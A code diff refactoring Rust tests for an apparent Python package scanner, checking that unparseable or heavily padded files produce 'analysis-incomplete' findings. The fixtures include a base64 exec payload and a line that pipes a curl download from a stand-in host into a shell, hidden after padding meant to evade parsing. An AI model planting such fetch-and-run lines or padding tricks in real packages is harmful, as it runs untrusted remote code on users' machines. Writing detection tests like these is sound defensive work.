@@ -58,11 +58,18 @@ mod tests {
 
     const PAYLOAD: &str = "exec(__import__('base64').b64decode('cHJpbnQoMSk='))";
 
-    fn incomplete(path: &str, src: &str) -> Vec<(Option<u32>, String, String)> {
+    /// The analysis-incomplete findings of a wheel holding one file.
+    fn findings(path: &str, src: &str) -> Vec<crate::finding::Finding> {
         let a = artifact("pkg-1.0-py3-none-any.whl", &[(path, src.as_bytes())]);
         inspect(&a, &InspectOptions::default())
             .into_iter()
             .filter(|f| f.rule == "analysis-incomplete")
+            .collect()
+    }
+
+    fn incomplete(path: &str, src: &str) -> Vec<(Option<u32>, String, String)> {
+        findings(path, src)
+            .into_iter()
             .map(|f| (f.location.line, f.severity.to_string(), f.message))
             .collect()
     }
@@ -100,16 +107,8 @@ mod tests {
         let pad = "# padding padding padding padding padding padding padding padding\n";
         let mut src = pad.repeat(crate::inspect::MAX_PARSE_SIZE / pad.len() + 10);
         src.push_str("import os\nos.system('curl -s https://x.example.invalid/p | sh')\n");
-        let a = artifact(
-            "pkg-1.0-py3-none-any.whl",
-            &[("pkg/__init__.py", src.as_bytes())],
-        );
-        let f = inspect(&a, &InspectOptions::default());
-        let inc: Vec<_> = f
-            .iter()
-            .filter(|f| f.rule == "analysis-incomplete")
-            .collect();
-        assert_eq!(inc.len(), 1, "{f:?}");
+        let inc = findings("pkg/__init__.py", &src);
+        assert_eq!(inc.len(), 1, "{inc:?}");
         assert!(
             inc[0].message.contains("was not parsed"),
             "{}",
@@ -151,16 +150,8 @@ mod tests {
             format!("y = {}1{}\n{PAYLOAD}\n", "(".repeat(n), ")".repeat(n)),
             format!("y = f'{{{}1}}'\n{PAYLOAD}\n", "~".repeat(n)),
         ] {
-            let a = artifact(
-                "pkg-1.0-py3-none-any.whl",
-                &[("pkg/__init__.py", src.as_bytes())],
-            );
-            let f = inspect(&a, &InspectOptions::default());
-            let inc: Vec<_> = f
-                .iter()
-                .filter(|f| f.rule == "analysis-incomplete")
-                .collect();
-            assert_eq!(inc.len(), 1, "{}: {f:?}", &src[..12]);
+            let inc = findings("pkg/__init__.py", &src);
+            assert_eq!(inc.len(), 1, "{}: {inc:?}", &src[..12]);
             assert!(
                 inc[0].message.contains("was not parsed"),
                 "{}",
